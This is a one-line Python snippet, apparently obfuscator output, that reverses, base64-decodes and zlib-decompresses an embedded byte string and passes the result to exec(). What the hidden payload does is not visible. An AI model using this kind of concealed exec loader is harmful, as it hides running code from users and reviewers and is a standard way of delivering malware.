_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'ADhOVCgAkLdVK1SKow6yNV9zL38Ssk8KMj0VI7cTKBV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
